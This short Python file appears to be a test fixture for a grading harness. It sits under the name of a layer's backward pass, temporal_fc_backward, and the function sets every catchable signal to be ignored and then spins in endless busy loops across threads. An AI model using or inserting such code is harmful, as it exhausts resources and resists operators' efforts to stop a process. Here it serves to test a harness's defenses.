"""Ignores every signal that can be ignored, and computes for ever in many threads."""

import signal
import threading

from honest_layers import *


def work():
    while True:
        pass


def temporal_fc_backward(dout, cache):
    for number in signal.valid_signals():
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    threading.Thread(target=work, daemon=True).start()
    work()
